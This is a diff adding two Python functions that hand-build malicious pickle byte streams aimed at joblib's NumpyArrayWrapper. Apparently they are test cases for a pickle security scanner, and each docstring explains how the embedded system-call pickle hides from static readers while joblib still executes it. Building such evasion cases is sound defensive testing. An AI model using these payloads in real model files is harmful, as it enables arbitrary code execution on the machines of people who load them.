@@ -358,3 +358,29 @@ def zip_prepended_for_torch(marker: str) -> bytes:
     head = evil_local + b"\0" * (len(local) - len(evil_local)) + evil_central + b"\0" * 16
     end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 2, 2, len(central), len(local), 0)
     return head + local + central + end
+
+
+def joblib_second_build(marker: str) -> bytes:
+    """The wrapper is fetched again from the memo and built a second time: joblib's BUILD
+    adds to the attributes of the first (shape (0,) from its state, so 0 bytes are read),
+    while a reader that keeps only the latest state uses the constructor's shape and skips,
+    as array data, the pickle that joblib runs."""
+    evil = system_call(marker, proto=2) + b"0"
+    head = b"\x80\x02" + glob2("joblib.numpy_pickle", "NumpyArrayWrapper") + b"("
+    head += glob2("numpy", "ndarray") + b"M" + struct.pack("<H", len(evil)) + b"\x85"
+    head += su("C") + _dtype("u1") + b"tRq\xc8"
+    first = b"}" + su("shape") + b"K\x00\x85sb" + b"\x00" + b"0"  # pad byte, 0 bytes, POP
+    second = b"h\xc8}" + su("order") + su("C") + b"sb" + b"\x00"
+    return head + first + second + evil + b"0N."
+
+
+def joblib_wrapper_by_reconstructor(marker: str) -> bytes:
+    """copyreg._reconstructor(NumpyArrayWrapper, object, None) makes a wrapper without its
+    constructor; joblib reads array data after its BUILD all the same. A reader that does not
+    see a wrapper there takes the 2 data bytes b'.\\xff' for the end of the pickle and
+    trailing garbage, and never reads the pickle joblib runs after them."""
+    wrapper = glob2("copyreg", "_reconstructor") + b"("
+    wrapper += glob2("joblib.numpy_pickle", "NumpyArrayWrapper") + glob2("builtins", "object")
+    wrapper += b"NtR}(" + su("subclass") + glob2("numpy", "ndarray") + su("shape") + b"K\x02\x85"
+    wrapper += su("order") + su("C") + su("dtype") + _dtype("u1") + b"ub"
+    return b"\x80\x02" + wrapper + b".\xff" + system_call(marker, proto=2) + b"00N."
